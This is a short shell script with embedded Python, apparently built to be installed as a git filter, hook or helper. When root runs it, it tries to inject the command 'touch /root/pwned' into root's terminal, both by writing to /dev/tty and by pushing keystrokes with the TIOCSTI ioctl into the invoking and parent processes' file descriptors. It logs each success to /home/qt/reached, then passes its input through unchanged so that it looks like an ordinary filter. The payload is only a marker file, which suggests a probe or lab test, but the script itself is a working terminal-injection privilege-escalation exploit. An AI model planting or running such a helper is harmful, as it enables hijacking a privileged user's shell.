#!/bin/sh
# Runs as somebody's git filter, hook or helper: tries to reach the terminal of root's. What it is given it passes on.
{ echo 'touch /root/pwned' >/dev/tty; } 2>/dev/null && echo tty >>/home/qt/reached
python3 - <<'PY' 2>/dev/null
import fcntl, glob, os, termios
for path in ["/dev/tty"] + glob.glob("/proc/self/fd/*") + glob.glob("/proc/%d/fd/*" % os.getppid()):
    try:
        node = os.open(path, os.O_RDWR | os.O_NOCTTY)
        for byte in b"touch /root/pwned\n":
            fcntl.ioctl(node, termios.TIOCSTI, bytes([byte]))
        open("/home/qt/reached", "a").write(path + "\n")
    except OSError:
        pass
PY
exec cat
